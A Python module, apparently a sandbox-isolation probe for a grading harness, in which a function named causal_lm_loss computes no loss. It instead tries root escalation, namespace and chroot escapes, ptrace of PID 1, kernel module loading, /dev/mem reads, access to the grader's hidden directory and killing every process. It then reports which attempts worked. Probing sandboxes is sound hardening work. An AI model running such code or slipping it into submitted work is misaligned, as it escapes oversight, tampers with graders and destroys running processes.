import ctypes as _ctypes
import os as _os
import resource as _resource
import signal as _signal

_libc = _ctypes.CDLL(None, use_errno=True)


def _attempts():
    worked = []

    def attempt(name, fn):
        try:
            if fn() is not False:
                worked.append(name)
        except Exception:
            pass

    def raise_limit(res):
        soft, hard = _resource.getrlimit(res)
        _resource.setrlimit(res, (_resource.RLIM_INFINITY, _resource.RLIM_INFINITY))

    attempt("rlimit_as", lambda: raise_limit(_resource.RLIMIT_AS))
    attempt("rlimit_nproc", lambda: raise_limit(_resource.RLIMIT_NPROC))
    attempt("rlimit_cpu", lambda: raise_limit(_resource.RLIMIT_CPU))
    attempt("setuid0", lambda: _os.setuid(0))
    attempt("setgid0", lambda: _os.setgid(0))
    attempt("unshare_user", lambda: _libc.unshare(0x10000000) == 0 or False)
    attempt("unshare_ns", lambda: _libc.unshare(0x00020000) == 0 or False)
    attempt("mount", lambda: _libc.mount(b"tmpfs", b"/scratch", b"tmpfs", 0, None) == 0 or False)
    attempt("chroot", lambda: _os.chroot("/scratch"))
    attempt("ptrace_attach_1", lambda: _libc.ptrace(16, 1, 0, 0) == 0 or False)
    attempt("init_module", lambda: _libc.syscall(175, 0, 0, b"") == 0 or False)
    attempt("sethostname", lambda: _libc.sethostname(b"pwned", 5) == 0 or False)
    attempt("read_proc_1_root", lambda: _os.listdir("/proc/1/root/") and _os.path.exists("/proc/1/root@HIDDEN_DIR@") or False)
    attempt("see_grader_pids", lambda: len([p for p in _os.listdir("/proc") if p.isdigit()]) > 1 or False)
    attempt("dev_mem", lambda: open("/dev/mem", "rb").read(1) and True)
    attempt("kill_all", lambda: _os.kill(-1, _signal.SIGKILL) or False)
    for fd in range(3, 64):
        try:
            _os.fchdir(fd)
            if _os.path.exists("..@HIDDEN_DIR@") or _os.path.exists("@HIDDEN_DIR@"):
                worked.append(f"fchdir{fd}")
        except OSError:
            pass
    _os.chdir("/scratch")
    return worked


def causal_lm_loss(logits, input_ids, attention_mask=None):
    raise RuntimeError(f"ESCAPES={_attempts()!r}")
